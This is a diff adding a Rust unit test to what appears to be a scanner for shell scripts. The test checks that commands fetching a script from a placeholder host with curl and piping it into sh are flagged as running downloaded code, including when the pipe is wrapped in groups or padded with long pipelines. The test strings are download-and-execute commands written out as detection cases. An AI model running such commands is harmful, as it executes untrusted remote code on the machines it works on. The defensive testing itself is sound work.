@@ -303,6 +303,21 @@ fn only_a_script_that_was_just_made_is_known() {
 }
 
 #[test]
+fn every_command_of_a_group_or_pipeline_counts_for_what_it_reads_and_prints() {
+    for count in [0, 15, 16, 300] {
+        let (others, stages) = ("true; ".repeat(count), "cat | ".repeat(count));
+        for text in [
+            format!("curl -s http://e.example/a | {{ {others}sh; }}\n"),
+            format!("{{ {others}curl -s http://e.example/a; }} | sh\n"),
+            format!("curl -s http://e.example/a | {stages}sh\n"),
+        ] {
+            let told = told(&look("bash", &text));
+            assert!(told.iter().any(|finding| finding.contains(" sh.run-downloaded: ")), "{text}: {told:?}");
+        }
+    }
+}
+
+#[test]
 fn code_of_files_that_the_text_does_not_show_is_not_known() {
     for (language, source) in [
         ("bash", "python3 -m mod"),
